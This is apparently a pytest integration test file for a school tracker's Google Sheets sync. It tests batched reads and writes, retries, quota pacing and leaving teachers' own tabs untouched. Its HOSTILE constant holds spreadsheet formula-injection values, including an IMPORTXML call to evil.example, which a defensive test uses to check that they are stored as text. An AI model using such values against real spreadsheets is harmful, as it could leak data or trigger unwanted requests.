"""GoogleStore through the Google stand-in: real sign-in, one read per workbook, one batchUpdate per
spreadsheet, people's tabs untouched, faults retried, the quota never hit."""
from __future__ import annotations

import pandas as pd
import pytest

from functions.changes import changed_workbooks
from sync.google import batch
from sync.google.store import GoogleStore
from sync.job import run_sync
from sync.store import Tab, WorkbookRef
from tests.fakes import SimClock
from tests.google_standin import SERVICE_ACCOUNT, TEACHER
from tests.integration.google_school import serve
from tests.year_school import make_school

HOSTILE = ['=IMPORTXML("http://evil.example","//a")', "+1", "@SUM(1)"]


@pytest.fixture
def school(google):
    classes = google.create_folder("Classes")
    oak = google.create_spreadsheet("Year 3 Oak", {"Pupils": [["UPN", "First name"], ["A123", "Ann"]],
                                                   "Judgements": [["UPN", "Maths Autumn"], ["A123", "16"]]},
                                    parents=[classes])
    google.create_spreadsheet("Year 4 Ash", {"Pupils": [["UPN"]]}, parents=[classes])
    summary = google.create_spreadsheet("Tracker summary", {"Settings": [["Classes folder", classes]],
                                                            "Summary": [["The head's own notes"]]})
    clock = SimClock(1000.0)
    store = GoogleStore(summary, classes_folder=classes, clock=clock, sleep=clock.sleep)
    return store, oak, clock


def problems_tab(*rows: list[object]) -> Tab:
    return Tab(title="Problems", header=["Workbook", "Found"], rows=list(rows))


def test_signs_in_through_the_token_endpoint_and_reads_a_workbook_in_one_request(google, school):
    store, oak, _ = school
    values = store.read_workbook(WorkbookRef(oak, "Year 3 Oak"))
    assert values == {"Pupils": [["UPN", "First name"], ["A123", "Ann"]],
                      "Judgements": [["UPN", "Maths Autumn"], ["A123", "16"]]}
    assert google.count("read") == 1 and google.count("write") == 0
    assert len(google.state.auth_requests) == 1


def test_the_classes_folder_lists_only_live_spreadsheets(google, school):
    store, _, _ = school
    refs = store.list_class_workbooks()
    assert sorted(ref.name for ref in refs) == ["Year 3 Oak", "Year 4 Ash"]
    assert all(ref.modified_by == TEACHER and ref.modified for ref in refs)
    assert google.count("read") == 1


def test_a_file_in_the_classes_folder_that_is_not_a_google_sheet_is_named_not_read(google, school, tmp_path):
    """Local mode names a file in classes/ that is not a workbook; on Drive the same happens to an
    Excel file uploaded without converting (a class that would vanish silently), a PDF and a
    shortcut. A subfolder is not a file and is passed over."""
    store, _, _ = school
    classes = store.classes_folder
    google.create_file("2026-27 Elm (Year 5).xlsx",
                       "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK", parents=[classes])
    google.create_file("Letter home.pdf", "application/pdf", b"%PDF", parents=[classes])
    google.create_file("Year 6 Yew", "application/vnd.google-apps.shortcut", parents=[classes])
    google.create_folder("Old", parents=[classes])
    refs = store.list_class_workbooks()
    assert sorted(ref.name for ref in refs) == ["Year 3 Oak", "Year 4 Ash"]
    assert google.count("read") == 1
    found = {row["workbook"]: (row["found"], row["expected"], row["severity"]) for row in store.listing_problems()}
    assert set(found) == {"2026-27 Elm (Year 5).xlsx", "Letter home.pdf", "Year 6 Yew"}
    assert found["2026-27 Elm (Year 5).xlsx"][0] == "an Excel workbook uploaded to Drive, not a Google Sheet, so not read"
    assert "File > Save as Google Sheets" in found["2026-27 Elm (Year 5).xlsx"][1]
    assert "shortcut" in found["Year 6 Yew"][0]
    assert {severity for *_, severity in found.values()} == {"warning"}
    store.list_class_workbooks()                       # a second listing does not say it twice
    assert len(store.listing_problems()) == 3

    summary_id = serve(google, make_school(tmp_path / "school"))
    settings = {row[0]: row[1] for row in google.read_spreadsheet(summary_id)["Settings"] if len(row) > 1}
    google.create_file("Letter home.pdf", "application/pdf", b"%PDF", parents=[settings["Classes folder"]])
    assert run_sync(GoogleStore(summary_id)).outcome == "complete"
    problems = google.read_spreadsheet(summary_id)["Problems"]
    assert [row for row in problems if row and row[0] == "Letter home.pdf"][0][3] == "a file that is not a class workbook"


def test_a_write_is_one_batch_update_and_formula_text_stays_text(google, school):
    store, oak, _ = school
    ref = WorkbookRef(oak, "Year 3 Oak")
    store.read_workbook(ref)
    store.write_class_outputs(ref, [problems_tab(HOSTILE[:2], [HOSTILE[2], 3]),
                                    Tab(title="Class summary", header=["UPN"], rows=[["A123"]])])
    assert google.count("write") == 1 and google.count("read") == 1
    written = google.read_spreadsheet(oak)
    assert written["Problems"] == [["Workbook", "Found"], HOSTILE[:2], [HOSTILE[2], 3]]
    assert google.cell(oak, "Problems", 1, 0)["userEnteredValue"] == {"stringValue": HOSTILE[0]}
    assert written["Pupils"] == [["UPN", "First name"], ["A123", "Ann"]]


def test_a_second_write_replaces_our_tab_in_place(google, school):
    store, oak, _ = school
    ref = WorkbookRef(oak, "Year 3 Oak")
    store.write_class_outputs(ref, [problems_tab(["Year 3 Oak", "x"], ["Year 3 Oak", "y"])])
    store.read_workbook(ref)
    store.write_class_outputs(ref, [problems_tab(["Year 3 Oak", "z"])])
    assert google.read_spreadsheet(oak)["Problems"] == [["Workbook", "Found"], ["Year 3 Oak", "z"]]
    owned = [m for m in google.metadata(oak) if m.get("metadataKey") == "tracker-owned"]
    assert len(owned) == 1
    book = google.world.books[oak]
    assert len(book.sheet_by_title("Problems").resource().get("protectedRanges", [])) == 1


def test_a_persons_tab_with_our_title_is_untouched_and_we_write_beside_it(google, school):
    store, _, _ = school
    store.read_summary()
    problems = store.write_summary([Tab(title="Summary", header=["Year"], rows=[[3]])])
    values = google.read_spreadsheet(store.spreadsheet_id)
    assert values["Summary"] == [["The head's own notes"]]
    assert values["Summary (tracker)"] == [["Year"], [3]]
    assert [p["tab"] for p in problems] == ["Summary"] and store.problems == problems


def test_faults_are_retried_and_the_work_still_done(google, school):
    store, oak, clock = school
    google.faults.add("429", at=1, retry_after=7)
    google.faults.add("500", at=2)
    google.faults.add("drop", at=3)
    assert store.read_workbook(WorkbookRef(oak, "Year 3 Oak"))["Pupils"][1] == ["A123", "Ann"]
    assert store.counts.retries == 3 and store.counts.reads == 1
    assert clock.now - 1000 >= 7                               # Retry-After honoured


def test_our_own_write_does_not_count_as_a_change_but_a_teachers_edit_does(google, school):
    store, oak, _ = school
    before = pd.DataFrame([vars(ref) for ref in store.list_class_workbooks()])
    store.write_class_outputs(WorkbookRef(oak, "Year 3 Oak"), [problems_tab()])
    after = pd.DataFrame([vars(ref) for ref in store.list_class_workbooks()])
    assert store.account_email == SERVICE_ACCOUNT
    assert not changed_workbooks(after, before, store.account_email).any()
    google.edit(oak, "Judgements", 1, 1, "17")
    edited = pd.DataFrame([vars(ref) for ref in store.list_class_workbooks()])
    assert edited.set_index("name")["id"][changed_workbooks(edited, after, store.account_email).to_numpy()].tolist() == [oak]


def test_the_pacer_keeps_seventy_reads_inside_the_quota(google, school):
    store, oak, clock = school
    google.quotas.switch_on(reads=60, writes=60, clock=clock)
    for _ in range(70):
        store.read_workbook(WorkbookRef(oak, "Year 3 Oak"))
    assert all(record.status == 200 for record in google.requests)
    assert store.counts.retries == 0 and clock.now - 1000 >= 60


def test_a_write_over_the_request_budget_goes_through_hidden_staging_tabs(google, school, monkeypatch):
    store, oak, _ = school
    ref = WorkbookRef(oak, "Year 3 Oak")
    rows = [["Year 3 Oak", f"cell {i}"] for i in range(400)]
    monkeypatch.setattr("sync.google.batch.REQUEST_BUDGET", 8_000)
    store.read_workbook(ref)
    store.write_class_outputs(ref, [problems_tab(*rows)])
    assert google.count("write") > 3                                  # staged over several requests
    assert store.counts.largest_request <= 8_000
    written = google.read_spreadsheet(oak)
    assert written["Problems"] == [["Workbook", "Found"], *rows]
    assert sorted(written) == ["Judgements", "Problems", "Pupils"]    # no staging tab left behind
    assert google.cell(oak, "Problems", 0, 0)["userEnteredFormat"]["textFormat"]["bold"] is True


def test_a_failed_staged_write_leaves_our_tabs_as_they_were_and_the_next_write_tidies_up(
        google, school, monkeypatch):
    store, oak, _ = school
    ref = WorkbookRef(oak, "Year 3 Oak")
    store.write_class_outputs(ref, [problems_tab(["old", 1])])
    monkeypatch.setattr("sync.google.batch.REQUEST_BUDGET", 8_000)
    staged = batch.staged

    def all_but_the_swap(requests_, layout, budget=None):      # as if the connection died before it
        parts = staged(requests_, layout, budget)
        assert len(parts) > 1
        return parts[:-1]

    monkeypatch.setattr("sync.google.store.staged", all_but_the_swap)
    store.read_workbook(ref)
    store.write_class_outputs(ref, [problems_tab(*[["Year 3 Oak", f"cell {i}"] for i in range(400)])])
    after_failure = google.read_spreadsheet(oak)
    assert after_failure["Problems"] == [["Workbook", "Found"], ["old", 1]]
    assert any(title.startswith(batch.STAGING_PREFIX) for title in after_failure)   # hidden, left over
    monkeypatch.setattr("sync.google.store.staged", staged)
    store.read_workbook(ref)
    store.write_class_outputs(ref, [problems_tab(["new", 2])])
    written = google.read_spreadsheet(oak)
    assert written["Problems"] == [["Workbook", "Found"], ["new", 2]]
    assert sorted(written) == ["Judgements", "Problems", "Pupils"]


def test_a_tab_read_in_this_sync_is_written_as_the_rows_that_changed(google, school):
    store, oak, _ = school
    ref = WorkbookRef(oak, "Year 3 Oak")
    rows = [["Year 3 Oak", i] for i in range(300)]
    store.write_class_outputs(ref, [problems_tab(*rows)])
    whole = store.counts.largest_request
    store.read_workbook(ref)
    store.counts.largest_request = 0
    rows[7] = ["Year 3 Oak", "changed"]
    store.write_class_outputs(ref, [problems_tab(*rows, ["Year 3 Oak", "one more"])])
    assert google.read_spreadsheet(oak)["Problems"] == [["Workbook", "Found"], *rows, ["Year 3 Oak", "one more"]]
    assert store.counts.largest_request < whole / 10           # two rows sent, not 302
